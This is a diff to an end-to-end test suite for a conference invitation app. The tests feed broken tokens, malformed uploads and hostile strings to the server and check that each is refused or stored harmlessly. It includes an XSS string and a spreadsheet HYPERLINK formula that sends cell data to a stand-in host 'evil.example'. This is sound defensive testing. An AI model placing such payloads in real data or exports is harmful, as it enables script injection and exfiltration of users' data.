@@ -1,3 +1,4 @@
+import { writerForSetup } from "@/db/client";
 /**
  * The bad-input corpus (e2e/corpus, committed), against the running server: malformed and
  * oversized requests, tokens of every broken shape, files that are mis-encoded, truncated,
@@ -34,9 +35,9 @@ test.describe("the bad-input corpus", () => {
   });
 
   test("broken tokens at the door: a verdict each, logged, nobody let in", async ({ page }) => {
-    const { site } = practiceConference();
+    const { site } = await practiceConference();
     await signIn(page, "diemdanh");
-    const before = e2eDb().select({ n: count() }).from(scanLog).where(eq(scanLog.deviceId, "may-hong")).get()!.n;
+    const before = (await (await e2eDb()).select({ n: count() }).from(scanLog).where(eq(scanLog.deviceId, "may-hong")).get())!.n;
     const tokens = read<string[]>("tokens.json");
     let logged = 0;
     for (const [i, token] of tokens.entries()) {
@@ -53,11 +54,13 @@ test.describe("the bad-input corpus", () => {
       logged++;
     }
     expect(
-      e2eDb()
+      (await (
+        await e2eDb()
+      )
         .select({ n: count() })
         .from(scanLog)
         .where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"])))
-        .get()!.n - before,
+        .get())!.n - before,
     ).toBe(logged);
   });
 
@@ -66,15 +69,15 @@ test.describe("the bad-input corpus", () => {
   }) => {
     test.setTimeout(60_000); // thirteen uploads, then five pages and two exports: ~30 s on a busy 2-core machine
     await signIn(page, "admin");
-    const db = e2eDb();
+    const db = await e2eDb();
     const code = `bi${process.pid}${Date.now() % 100000}`;
-    const province = db.select().from(units).where(eq(units.code, "51")).get()!;
-    const unit = db
+    const province = (await db.select().from(units).where(eq(units.code, "51")).get())!;
+    const unit = await writerForSetup(db)
       .insert(units)
-      .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
+      .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: await testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
       .returning()
       .get();
-    const peopleIn = () => db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id)).get()!.n;
+    const peopleIn = async () => (await db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id)).get())!.n;
     const expectations = read<Record<string, { expect: "refused" | "accepted"; rows?: number; message?: string }>>("files.json");
     const upload = (name: string, buffer: Buffer) =>
       page.request.post("/api/people/import", {
@@ -102,19 +105,19 @@ test.describe("the bad-input corpus", () => {
     expect([400, 413]).toContain(huge.status());
     expect((await huge.json()).message).toBeTruthy();
     // A refused file keeps no batch either: only the accepted files' batches exist.
-    expect(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get()!.n).toBe(
+    expect((await db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get())!.n).toBe(
       Object.values(expectations).filter((w) => w.expect === "accepted").length,
     );
-    const stored = db.select().from(people).where(eq(people.unitId, unit.id)).all();
+    const stored = await db.select().from(people).where(eq(people.unitId, unit.id)).all();
     expect(stored).toHaveLength(Object.values(expectations).reduce((n, w) => n + (w.expect === "accepted" ? (w.rows ?? 0) : 0), 0));
     expect(stored.map((p) => p.fullName)).toEqual(expect.arrayContaining(["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']));
-    const before = peopleIn();
+    const before = await peopleIn();
 
     // The hostile strings as conference text too, then everyone invited and shown.
     const strings = read<string[]>("strings.json");
-    const body = db.insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning().get();
-    const campaign = db.select().from(campaigns).get()!;
-    const conference = db
+    const body = await writerForSetup(db).insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning().get();
+    const campaign = (await db.select().from(campaigns).get())!;
+    const conference = await writerForSetup(db)
       .insert(conferences)
       .values({
         campaignId: campaign.id,
@@ -128,11 +131,19 @@ test.describe("the bad-input corpus", () => {
       })
       .returning()
       .get();
-    const site = db.insert(sites).values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] }).returning().get();
+    const site = await writerForSetup(db)
+      .insert(sites)
+      .values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] })
+      .returning()
+      .get();
     for (const text of strings)
-      db.insert(people).values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id }).run();
-    for (const p of db.select().from(people).where(eq(people.unitId, unit.id)).all()) {
-      db.insert(invitations)
+      await writerForSetup(db)
+        .insert(people)
+        .values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id })
+        .run();
+    for (const p of await db.select().from(people).where(eq(people.unitId, unit.id)).all()) {
+      await writerForSetup(db)
+        .insert(invitations)
         .values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" })
         .run();
     }
@@ -175,7 +186,7 @@ test.describe("the bad-input corpus", () => {
       }),
     );
     expect(cells).toBeGreaterThan(strings.length * 5);
-    expect(peopleIn()).toBe(before + strings.length);
+    expect(await peopleIn()).toBe(before + strings.length);
   });
 
   test("impossible dates and hostile filters in URLs are ignored, not an error page", async ({ page }) => {
